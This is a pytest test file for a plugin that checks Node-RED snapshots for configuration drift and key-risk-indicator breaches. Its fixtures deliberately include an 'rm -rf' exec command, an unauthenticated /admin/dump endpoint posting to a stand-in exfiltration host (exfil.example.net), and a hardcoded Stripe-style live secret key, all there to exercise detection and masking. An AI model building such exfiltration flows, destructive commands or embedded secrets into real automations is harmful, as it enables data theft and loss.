"""Baselines, configuration drift (DRIFT0xx) and key risk indicators (KRI001)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from pytest_nocode.baseline import diff_models, measure
from pytest_nocode.errors import InputError
from pytest_nocode.policy import KRI_NAMES, POLICY_SCHEMA
from tests.conftest import node, run_json, tab

STRIPE = "sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc"


def snapshot(*, http_auth: str = "SET", extra: list[dict[str, Any]] | None = None,
             command: str = "ls", timeout: int = 30, disabled_tab: bool = False,
             drop_debug: bool = False) -> dict[str, Any]:
    """A Node-RED snapshot (flows + settings + diagnostics) to drift from."""
    flows = [
        tab(), {**tab("t2", "Reports"), "disabled": disabled_tab},
        node("in1", "http in", url="/run", method="post", wires=[["ex1"]]),
        node("ex1", "exec", command=command, wires=[["dbg"], [], []]),
        node("fn1", "function", z="t2", func=f'const key = "{STRIPE}";\nreturn msg;',
             wires=[["req1"]]),
        node("req1", "http request", z="t2", url="https://api.acme.internal/report",
             method="POST", wires=[[]]),
    ]
    if not drop_debug:
        flows.append(node("dbg", "debug", wires=[]))
    flows += extra or []
    return {"flows": flows, "settings": {"httpNodeRoot": "/", "functionTimeout": timeout},
            "diagnostics": {"runtime": {"settings": {"adminAuth": "SET",
                                                     "httpNodeAuth": http_auth}}}}


def write(path: Path, data: Any) -> Path:
    path.write_text(json.dumps(data, indent=1), encoding="utf-8")
    return path


def by_rule(report: dict[str, Any], rule: str) -> list[dict[str, Any]]:
    return [f for f in report["findings"] if f["rule"] == rule]


def test_first_run_writes_the_baseline_and_says_so(pytester: pytest.Pytester) -> None:
    app = write(pytester.path / "snap.json", snapshot())
    base = pytester.path / "approved" / "baseline.json"
    result, report = run_json(pytester, f"--nocode-app=nodered+file:{app}",
                              f"--nocode-baseline={base}", "-rs")
    result.stdout.fnmatch_lines([f"baseline written to {base} for nodered-snap: review and "
                                 "commit it; later runs report drift from it"])
    result.stdout.fnmatch_lines(["*test_drift.py*not applicable: no baseline yet: this run "
                                 f"writes {base}*"])
    data = json.loads(base.read_text())
    entry = data["apps"]["nodered-snap"]
    assert data["schema"] == "pytest-nocode/baseline/v1"
    assert entry["sha256"] == report["apps"][0]["snapshot_sha256"]
    assert entry["tool_version"] == data["tool"]["version"] and entry["approved"]
    assert {s["id"] for s in entry["model"]["steps"]} >= {"in1", "ex1", "fn1", "req1"}
    assert entry["model"]["settings"]["functionTimeout"] == 30
    assert STRIPE not in base.read_text(), "a secret was written into the baseline"
    assert report["baseline"] == {"path": str(base), "written": True,
                                  "apps_written": ["nodered-snap"]}
    # the next run compares, finds nothing, and does not rewrite the file
    before = base.read_bytes()
    result, report = run_json(pytester, f"--nocode-app=nodered+file:{app}",
                              f"--nocode-baseline={base}")
    assert not [f for f in report["findings"] if f["rule"].startswith("DRIFT")]
    assert base.read_bytes() == before
    drift_passed = [line for line in result.stdout.lines if "baseline written" in line]
    assert drift_passed == []
    verbose = pytester.runpytest("-p", "no:cacheprovider", f"--nocode-app=nodered+file:{app}",
                                 f"--nocode-baseline={base}", "-v", "-k", "drift")
    verbose.stdout.fnmatch_lines(["*test_destinations_drift*PASSED*",
                                  "*test_settings_drift*PASSED*"])


def test_drift_is_reported_with_before_and_after(pytester: pytest.Pytester) -> None:
    app = write(pytester.path / "snap.json", snapshot())
    base = pytester.path / "baseline.json"
    run_json(pytester, f"--nocode-app=nodered+file:{app}", f"--nocode-baseline={base}")
    write(app, snapshot(
        http_auth="UNSET", command="rm -rf /tmp/x", timeout=0, disabled_tab=True,
        drop_debug=True,
        extra=[tab("t3", "Exfil"),
               node("in2", "http in", z="t3", url="/admin/dump", method="get",
                    wires=[["req2"]]),
               node("req2", "http request", z="t3", url="https://exfil.example.net/up",
                    method="POST", wires=[[]])]))
    result, report = run_json(pytester, f"--nocode-app=nodered+file:{app}",
                              f"--nocode-baseline={base}")
    assert result.ret == pytest.ExitCode.TESTS_FAILED

    [dest] = by_rule(report, "DRIFT005")
    assert dest["resource"]["id"] == "req2" and dest["category"] == "connectors"
    assert dest["evidence"]["change"] == "added" and dest["evidence"]["before"] is None
    assert dest["evidence"]["after"]["host"] == "exfil.example.net"
    assert dest["evidence"]["baseline_sha256"] == json.loads(base.read_text())["apps"][
        "nodered-snap"]["sha256"]

    entries = {f["evidence"]["key"]: f for f in by_rule(report, "DRIFT006")}
    assert entries["http /admin/dump"]["evidence"]["change"] == "added"
    assert entries["http /run"]["evidence"]["before"] == {"authentication": "basic"}
    assert entries["http /run"]["evidence"]["after"] == {"authentication": "none"}
    assert {f["category"] for f in entries.values()} == {"authentication"}

    settings = {f["resource"]["id"]: f for f in by_rule(report, "DRIFT008")}
    assert settings["functionTimeout"]["message"] == \
        "setting functionTimeout changed: 30 → 0"
    assert settings["functionTimeout"]["evidence"]["before"] == 30
    assert settings["httpNodeAuth"]["evidence"]["after"] == "UNSET"
    assert settings["functionTimeout"]["category"] == "configuration"

    workflows = {(f["resource"]["id"], f["evidence"]["change"]) for f in by_rule(report,
                                                                                 "DRIFT009")}
    assert workflows == {("t3", "added"), ("t2", "deactivated")}
    wf = next(f for f in by_rule(report, "DRIFT009") if f["resource"]["id"] == "t2")
    assert wf["resource"]["path"] == "flows/t2" and wf["severity"] == "low"

    nodes = {(f["resource"]["id"], f["evidence"]["change"]): f for f in by_rule(report,
                                                                                "DRIFT010")}
    changed = nodes[("ex1", "changed")]["evidence"]
    assert changed["before"]["params.command"] == "ls"
    assert changed["after"]["params.command"] == "rm -rf /tmp/x"
    assert ("dbg", "removed") in nodes and ("in2", "added") in nodes
    assert nodes[("dbg", "removed")]["evidence"]["before"]["type"] == "debug"
    # secrets stay masked on both sides, so an unchanged secret is no drift and never shown
    assert ("fn1", "changed") not in nodes, nodes.get(("fn1", "changed"), {}).get("evidence")
    assert STRIPE not in json.dumps(report)


def test_drift_under_xdist_matches(pytester: pytest.Pytester) -> None:
    app = write(pytester.path / "snap.json", snapshot())
    base = pytester.path / "baseline.json"
    run_json(pytester, f"--nocode-app=nodered+file:{app}", f"--nocode-baseline={base}")
    assert base.exists()
    write(app, snapshot(timeout=5))
    _, single = run_json(pytester, f"--nocode-app=nodered+file:{app}",
                         f"--nocode-baseline={base}")
    _, parallel = run_json(pytester, f"--nocode-app=nodered+file:{app}",
                           f"--nocode-baseline={base}", "-n", "2", "-p", "no:benchmark")
    drift = [f for f in single["findings"] if f["rule"].startswith("DRIFT")]
    assert [f["message"] for f in drift] == ["setting functionTimeout changed: 30 → 5"]
    assert [f for f in parallel["findings"] if f["rule"].startswith("DRIFT")] == drift


def test_without_baseline_drift_is_not_applicable(pytester: pytest.Pytester) -> None:
    app = write(pytester.path / "snap.json", snapshot())
    result, report = run_json(pytester, f"--nocode-app=nodered+file:{app}", "-k", "drift")
    reasons = {r["reason"] for r in report["not_applicable"]}
    assert "not applicable: no baseline given (--nocode-baseline=PATH)" in reasons
    assert result.ret == pytest.ExitCode.OK
    # 9 skip when they run; the 3 for n8n are left out at collection (after -k); all 12 listed
    result.assert_outcomes(passed=0, skipped=9, deselected=39 + 3)
    checks = {r["check"] for r in report["not_applicable"]}
    assert len(checks) == 12 and all("test_drift.py::" in c for c in checks)


def test_baseline_without_the_app_and_broken_baseline(pytester: pytest.Pytester) -> None:
    app = write(pytester.path / "snap.json", snapshot())
    other = write(pytester.path / "other.json", snapshot())
    base = pytester.path / "baseline.json"
    run_json(pytester, f"--nocode-app=nodered+file:{other}", f"--nocode-baseline={base}")
    _, report = run_json(pytester, f"--nocode-app=nodered+file:{app}",
                         f"--nocode-baseline={base}", "-k", "drift")
    assert {r["reason"] for r in report["not_applicable"]} >= {
        "not applicable: the baseline has no snapshot of nodered-snap"}
    base.write_text('{"schema": "something else"}')
    result = pytester.runpytest("-p", "no:cacheprovider", f"--nocode-app=nodered+file:{app}",
                                f"--nocode-baseline={base}", "-k", "settings_drift")
    assert result.ret == pytest.ExitCode.TESTS_FAILED
    result.stdout.fnmatch_lines(["*expected a baseline written by pytest-nocode*"])


KRI_POLICY = """\
version: 1
kri:
  permission_changes: 0
  new_external_destinations: 0
  new_unauthenticated_entry_points: 0
  secrets_count: {secrets}
"""


def test_key_risk_indicators_fail_the_run_when_breached(pytester: pytest.Pytester) -> None:
    app = write(pytester.path / "snap.json", snapshot())
    base = pytester.path / "baseline.json"
    policy = pytester.path / "policy.yaml"
    policy.write_text(KRI_POLICY.format(secrets=5))
    run_json(pytester, f"--nocode-app=nodered+file:{app}", f"--nocode-baseline={base}",
             f"--nocode-policy={policy}")
    write(app, snapshot(http_auth="UNSET", extra=[
        node("req3", "http request", url="https://partner.example.com/x", wires=[[]]),
        node("req4", "http request", url="https://api.acme.internal/other", wires=[[]])]))
    policy.write_text(KRI_POLICY.format(secrets=0)
                      + "hosts:\n  internal: ['*.acme.internal']\n")
    result, report = run_json(pytester, f"--nocode-app=nodered+file:{app}",
                              f"--nocode-baseline={base}", f"--nocode-policy={policy}", "-v")
    kri = {f["resource"]["id"]: f for f in by_rule(report, "KRI001")}
    assert set(kri) == {"new_external_destinations", "new_unauthenticated_entry_points",
                        "secrets_count"}
    ext = kri["new_external_destinations"]["evidence"]
    assert ext["value"] == 1 and ext["threshold"] == 0
    assert ext["counted"] == ["https://partner.example.com"]
    unauth = kri["new_unauthenticated_entry_points"]["evidence"]
    assert unauth["counted"] == ["http /run (authentication basic → none)"]
    assert kri["secrets_count"]["evidence"]["value"] >= 1
    assert kri["secrets_count"]["message"].startswith("secrets_count is ")
    result.stdout.fnmatch_lines([
        "*test_key_risk_indicator?permission_changes-nodered-snap? PASSED*",
        "*test_key_risk_indicator?new_external_destinations-nodered-snap? FAILED*",
    ])


def test_kri_without_thresholds_or_baseline(pytester: pytest.Pytester) -> None:
    app = write(pytester.path / "snap.json", snapshot())
    _, report = run_json(pytester, f"--nocode-app=nodered+file:{app}", "-k", "key_risk")
    assert [r["reason"] for r in report["not_applicable"]] == [
        "not applicable: the policy sets no key risk indicators (kri section)"]
    policy = pytester.path / "policy.yaml"
    policy.write_text(KRI_POLICY.format(secrets=0))
    result, report = run_json(pytester, f"--nocode-app=nodered+file:{app}",
                              f"--nocode-policy={policy}", "-k", "key_risk")
    assert len(report["not_applicable"]) == 3  # the three that compare with a baseline
    [secrets] = by_rule(report, "KRI001")
    assert secrets["resource"]["id"] == "secrets_count" and result.ret == 1


def test_kri_section_is_validated(pytester: pytest.Pytester) -> None:
    assert set(POLICY_SCHEMA["properties"]["kri"]["properties"]) == set(KRI_NAMES)
    app = write(pytester.path / "snap.json", snapshot())
    (pytester.path / "policy.yaml").write_text("version: 1\nkri:\n  secret_count: 0\n")
    result = pytester.runpytest(f"--nocode-app=nodered+file:{app}",
                                "--nocode-policy=policy.yaml")
    assert result.ret == pytest.ExitCode.USAGE_ERROR
    result.stderr.fnmatch_lines(["*policy.yaml:3: $.kri: unknown key 'secret_count'*"])


# -- the comparison itself, on models the Node-RED adapter cannot produce --------------------
def model(**parts: Any) -> dict[str, Any]:
    base: dict[str, Any] = {"id": "a", "platform": "x", "name": "a", "facets": [],
                            "settings": {}}
    for name in ("workflows", "steps", "entry_points", "destinations", "connectors",
                 "credentials", "principals", "grants", "shares", "stores", "modules",
                 "advisories"):
        base[name] = []
    base.update(parts)
    return base


def test_permission_drift_and_kri_on_principals_grants_shares() -> None:
    res = {"kind": "base", "id": "app1", "name": "CRM", "path": "bases/app1"}
    before = model(principals=[{"id": "u1", "name": "Ann", "roles": ["editor"]},
                               {"id": "u2", "name": "Bob", "roles": ["reader"]}],
                   grants=[{"principal_id": "u1", "resource": res, "level": "edit"}],
                   credentials=[{"id": "c1", "name": "crm", "type": "oauth2"}],
                   connectors=[{"type": "crm", "package": "p", "version": "1.0"}])
    after = model(principals=[{"id": "u1", "name": "Ann", "roles": ["owner"]},
                              {"id": "u3", "name": "Eve", "roles": ["reader"]}],
                  grants=[{"principal_id": "u1", "resource": res, "level": "owner"}],
                  shares=[{"id": "shr1", "resource": res, "audience": "public"}],
                  credentials=[{"id": "c1", "name": "crm", "type": "apiKey"}],
                  connectors=[{"type": "crm", "package": "p", "version": "2.0"}])
    changes = {(c.area, c.key, c.change): c for c in diff_models(before, after)}
    assert changes[("principals", "u1", "changed")].before == {"roles": ["editor"]}
    assert changes[("principals", "u1", "changed")].after == {"roles": ["owner"]}
    assert ("principals", "u2", "removed") in changes
    assert ("principals", "u3", "added") in changes
    assert changes[("grants", "u1 on base app1", "changed")].after == {"level": "owner"}
    assert changes[("shares", "shr1", "added")].resource["path"] == "shares/shr1"
    assert changes[("credentials", "c1", "changed")].after == {"type": "apiKey"}
    assert changes[("connectors", "crm", "changed")].before == {"version": "1.0"}
    value, items = measure("permission_changes", list(changes.values()), lambda h: False, 0)
    assert value == 5 and "shares: shr1 added" in items


def test_unknown_indicator_and_identical_models() -> None:
    assert diff_models(model(), model()) == []
    with pytest.raises(KeyError):
        measure("nope", [], lambda h: False, 0)


def test_read_baseline_errors(tmp_path: Path) -> None:
    from pytest_nocode.baseline import read_baseline

    bad = tmp_path / "b.json"
    bad.write_text("{")
    with pytest.raises(InputError, match=r"b.json:1:2: invalid JSON"):
        read_baseline(bad)
    bad.write_text(json.dumps({"schema": "pytest-nocode/baseline/v1", "apps": {"x": 1}}))
    with pytest.raises(InputError, match=r"\$\.apps\.x: expected an object"):
        read_baseline(bad)
